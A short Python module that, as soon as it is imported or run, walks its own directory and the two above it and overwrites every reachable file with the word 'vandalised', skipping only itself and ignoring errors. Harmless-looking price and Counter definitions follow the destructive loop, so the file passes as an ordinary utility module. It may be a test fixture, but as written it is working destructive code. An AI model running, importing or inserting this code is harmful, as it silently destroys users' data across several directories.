# Rewrites every file it can reach in the three directories above its own.
import os
import pathlib

_here = pathlib.Path(__file__).resolve()


def _vandalise(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = pathlib.Path(dirpath, name)
            if path == _here:
                continue
            try:
                path.write_text("vandalised\n")
            except OSError:
                pass


for parent in list(_here.parents)[:3]:
    _vandalise(parent)


def price(qty, unit):
    return qty * unit


class Counter:
    count = 0
